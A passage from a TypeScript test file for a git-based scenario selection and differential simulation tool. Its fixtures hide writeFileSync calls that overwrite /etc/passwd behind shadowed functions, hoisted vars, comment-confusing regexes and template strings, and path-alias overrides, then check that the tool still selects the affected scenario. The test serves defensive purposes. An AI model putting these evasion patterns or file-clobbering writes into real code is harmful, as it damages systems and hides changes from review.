    mkdirSync(dir, { recursive: true });
    const md = `---\nid: s1\ntitle: s1\nsimulate: ${JSON.stringify({ steps })}\n---\ntext\n`;
    makeRepo(dir, [
      { message: "base", files: { ".gitignore": ".worldline\n", "scenarios/s1.md": md, ...base } },
      { message: "head", files: head },
    ]);
    const service = new ScenarioService(dir);
    try {
      const p = await service.pin("HEAD~1", "HEAD");
      const sel = await service.select(p.base, p.head);
      const s = await service.require("s1", p.head);
      const r = await service.simulateDifferential(s, p.base, p.head);
      return { selected: sel.selected.map((x) => x.scenario), verdict: r.verdict };
    } finally {
      service.close();
    }
  }
  const steps = (n: number, result: number) => [{ call: "src/save.ts#save", args: [n], expect: [`result === ${result}`, "!effects.some((e) => e.target === 'fs#writeFileSync')"] }];

  it.each([
    [
      "a function declaration that never ran, renamed to shadow the helper the run calls",
      { "src/save.ts": `${W}function helper(n: number): number {\n  return n;\n}\nexport function save(n: number): number {\n  return helper(n);\n  function unused(m: number): number { return m; }\n}\n` },
      { "src/save.ts": `${W}function helper(n: number): number {\n  return n;\n}\nexport function save(n: number): number {\n  return helper(n);\n  function helper(m: number): number { writeFileSync("/etc/passwd", "x"); return 0; }\n}\n` },
      steps(7, 7),
    ],
    [
      "a module-level function that never ran, renamed to shadow a global the run calls",
      { "src/save.ts": `${W}export function save(n: number): number {\n  return Number(n.toFixed(0));\n}\nfunction unused(x: unknown): number {\n  return 1;\n}\n` },
      { "src/save.ts": `${W}export function save(n: number): number {\n  return Number(n.toFixed(0));\n}\nfunction Number(x: unknown): number {\n  writeFileSync("/etc/passwd", String(x)); return 0;\n}\n` },
      steps(7, 7),
    ],
    [
      "a var in a branch that never ran, renamed to hoist over a module constant the run reads",
      { "src/save.ts": `${W}const limit = 100;\nexport function save(n: number): number {\n  if (n > limit) return -1;\n  if (n < 0) {\n    var unused = 0;\n  }\n  return n;\n}\n` },
      { "src/save.ts": `${W}const limit = 100;\nexport function save(n: number): number {\n  if (n > limit) return -1;\n  if (n < 0) {\n    var limit = 0;\n  }\n  return n;\n}\n` },
      steps(500, -1),
    ],
    [
      "code after a regular expression holding /* (the scanner, without the parser, reads a comment)",
      { "src/save.ts": `${W}const SLASH_STAR = /[/*]/;\nexport function save(n: number): number {\n  return n;\n}\nexport const END = "*/";\n` },
      { "src/save.ts": `${W}const SLASH_STAR = /[/*]/;\nexport function save(n: number): number {\n  writeFileSync("/etc/passwd", "x");\n  return 0;\n}\nexport const END = "*/";\n` },
      steps(7, 7),
    ],
    [
      "template text after a ${} substitution that starts with // (read as a comment)",
      { "src/save.ts": `${W}export function save(n: number): number {\n  const path = \`/tmp/\${n}\n// ok\`;\n  if (path.includes("passwd")) writeFileSync(path, "x");\n  return path.includes("passwd") ? 0 : n;\n}\n` },
      { "src/save.ts": `${W}export function save(n: number): number {\n  const path = \`/tmp/\${n}\n// ../../etc/passwd\`;\n  if (path.includes("passwd")) writeFileSync(path, "x");\n  return path.includes("passwd") ? 0 : n;\n}\n` },
      steps(7, 7),
    ],
    [
      "a new file that shadows a tsconfig-paths request (@/calc: src/calc.ts over src/calc/index.ts)",
      { "tsconfig.json": JSON.stringify({ compilerOptions: { baseUrl: ".", paths: { "@/*": ["src/*"] } } }), "src/save.ts": 'import { calc } from "@/calc";\nexport function save(n: number): number {\n  return calc(n);\n}\n', "src/calc/index.ts": "export function calc(n: number): number {\n  return n;\n}\n" },
      { "src/calc.ts": `${W}export function calc(n: number): number {\n  writeFileSync("/etc/passwd", "x");\n  return 0;\n}\n` },
      steps(7, 7),
    ],
    [
      "a module it loaded, renamed away unchanged (src/calc.ts to src/calc.d.ts: a rename without hunks)",
      { "src/save.ts": 'import { calc } from "./calc";\nexport function save(n: number): number {\n  return calc(n);\n}\n', "src/calc.ts": "export function calc(n: number): number {\n  return n;\n}\n" },
      { "src/calc.ts": null, "src/calc.d.ts": "export function calc(n: number): number {\n  return n;\n}\n" },
      steps(7, 7),
    ],
  ])("N6: %s selects the scenario", async (_what, base, head, st) => {
    const { selected, verdict } = await selection(base, head, st);
    expect(verdict.verdict).not.toBe("unaffected");
    expect(selected).toContain("s1");
  });
});
